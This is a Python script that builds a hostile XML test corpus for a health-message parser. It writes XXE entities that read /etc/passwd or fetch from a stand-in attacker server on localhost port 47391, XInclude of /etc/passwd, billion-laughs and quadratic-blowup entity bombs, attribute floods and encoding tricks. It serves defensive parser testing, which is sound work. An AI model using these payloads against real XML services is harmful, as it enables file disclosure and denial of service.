#!/usr/bin/env python3
"""Regenerates the committed hostile corpus in this directory from samples/messages/01 (the
expected outcomes are in manifest.tsv, kept by hand). Inputs that cannot or should not be
committed (100 MB, symlinks, FIFOs, sockets, directories, odd file names, a file replaced while
it is read) are made by HostileCorpusTests itself; manifest.tsv lists them as @recipes.

Every file carries its own MsgId (hostile-<name>), so the whole corpus can go through one spool.
Port 47391 is the "attacker's server": HostileCorpusTests listens there and fails on any connection.
"""
import os
import re

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
with open(os.path.join(ROOT, "samples", "messages", "01-sp1-needs-assessment.xml"), encoding="utf-8") as f:
    BASE = f.read()
TEXT = "Behovskartlegging gjennomført. Se vedlegg."
EVIL = "http://127.0.0.1:47391"


def message(name, text=TEXT, prolog='<?xml version="1.0" encoding="UTF-8"?>\n'):
    """Sample 01 with MsgId hostile-<name>, the note text replaced, and another prolog."""
    body = BASE.replace('<?xml version="1.0" encoding="UTF-8"?>\n', "", 1)
    body = re.sub(r"<MsgId>[^<]*</MsgId>", f"<MsgId>hostile-{name}</MsgId>", body, count=1)
    return prolog + body.replace(TEXT, text, 1)


def write(name, data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


def main():
    # External entities and DTDs: refused at the DOCTYPE, before anything is fetched.
    write("xxe-file-entity.xml", message("xxe-file", "&x;", '<?xml version="1.0"?>\n<!DOCTYPE MsgHead [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'))
    write("xxe-network-entity.xml", message("xxe-net", "&x;", f'<?xml version="1.0"?>\n<!DOCTYPE MsgHead [<!ENTITY x SYSTEM "{EVIL}/xxe">]>\n'))
    write("xxe-parameter-entity.xml", message("xxe-param", TEXT, f'<?xml version="1.0"?>\n<!DOCTYPE MsgHead [<!ENTITY % p SYSTEM "{EVIL}/p.dtd"> %p;]>\n'))
    write("xxe-external-dtd.xml", message("xxe-dtd", TEXT, f'<?xml version="1.0"?>\n<!DOCTYPE MsgHead SYSTEM "{EVIL}/msghead.dtd">\n'))
    write("xinclude-passwd.xml", message("xinclude", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'))
    write("schemalocation-network.xml", message("schemaloc").replace(
        '<MsgHead xmlns="http://www.kith.no/xmlstds/msghead/2006-05-24">',
        '<MsgHead xmlns="http://www.kith.no/xmlstds/msghead/2006-05-24" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="http://www.kith.no/xmlstds/msghead/2006-05-24 {EVIL}/evil.xsd">', 1))
    write("stylesheet-pi.xml", message("stylesheet", TEXT, f'<?xml version="1.0" encoding="UTF-8"?>\n<?xml-stylesheet type="text/xsl" href="{EVIL}/x.xsl"?>\n'))

    # Entity expansion bombs: classic billion laughs, and quadratic blowup (one big entity, used often).
    lol = "".join(f'<!ENTITY lol{i} "{"&lol%d;" % (i - 1) * 10}">' for i in range(1, 10))
    write("billion-laughs.xml", f'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol0 "lol">{lol}]>\n<lolz>&lol9;</lolz>\n')
    write("quadratic-blowup.xml", '<?xml version="1.0"?>\n<!DOCTYPE kaboom [<!ENTITY a "' + "a" * 50_000 + '">]>\n<kaboom>'
          + "&a;" * 5_000 + "</kaboom>\n")
    # Without a DOCTYPE: an attribute flood and a namespace flood (quadratic in naive parsers).
    write("attribute-flood.xml", message("attrs").replace("<Notat>", "<Notat " + " ".join(f'a{i}="x"' for i in range(50_000)) + ">", 1))
    write("namespace-flood.xml", message("namespaces").replace("<Notat>", "<Notat " + " ".join(f'xmlns:p{i}="urn:p{i}"' for i in range(20_000)) + ">", 1))

    # Depth: 10,000 levels inside a readable header (the MsgId is salvaged for the T01 AppRec).
    write("deep-inside-msghead.xml", message("deep", "<a>" * 10_000 + "</a>" * 10_000))

    # Encodings.
    write("invalid-utf8.xml", message("bad-utf8").encode("utf-8").replace(b"gjennomf\xc3\xb8rt", b"gjennomf\xc3\x28rt"))
    write("latin1-declared-utf8.xml", message("latin1-as-utf8").encode("iso-8859-1"))
    write("latin1-declared-latin1.xml", message("latin1", TEXT, '<?xml version="1.0" encoding="ISO-8859-1"?>\n').encode("iso-8859-1"))
    write("utf8-bom.xml", b"\xef\xbb\xbf" + message("bom").encode("utf-8"))
    write("utf16-with-bom.xml", message("utf16", TEXT, '<?xml version="1.0" encoding="UTF-16"?>\n').encode("utf-16"))
    write("utf16-declared-utf8.xml", message("utf16-as-utf8").encode("utf-16-le"))
    write("control-character-reference.xml", message("ctrl-ref", "før &#x1; etter"))

    # NUL bytes, empty and near-empty files, binary data.
    write("nul-in-text.xml", message("nul").encode("utf-8").replace(b"Se vedlegg.", b"Se\x00vedlegg."))
    write("nul-leading.xml", b"\x00" + message("nul-leading").encode("utf-8"))
    write("empty.xml", b"")
    write("whitespace-only.xml", b" \n\t\r\n" * 100)
    write("pdf-named-xml.xml", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")

    # Not well-formed, with a MsgId whose salvaged text holds characters an XML document cannot carry.
    write("salvaged-msgid-control-chars.xml", message("salvage").replace("<MsgId>hostile-salvage</MsgId>",
                                                                         "<MsgId>hostile-salvage\x01\x1b[31m</MsgId>").replace("</MsgHead>", ""))
    # Odd but well-formed: a 100,000-character MsgId; another document type; a SOAP envelope around a MsgHead.
    write("huge-msgid.xml", message("huge").replace("<MsgId>hostile-huge</MsgId>", "<MsgId>hostile-huge-" + "x" * 100_000 + "</MsgId>"))
    write("xhtml-root.xml", '<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body><p>hei</p></body></html>\n')
    write("soap-wrapped.xml", '<?xml version="1.0" encoding="UTF-8"?>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
          + message("soap", TEXT, "") + "</soap:Body></soap:Envelope>\n")


if __name__ == "__main__":
    main()
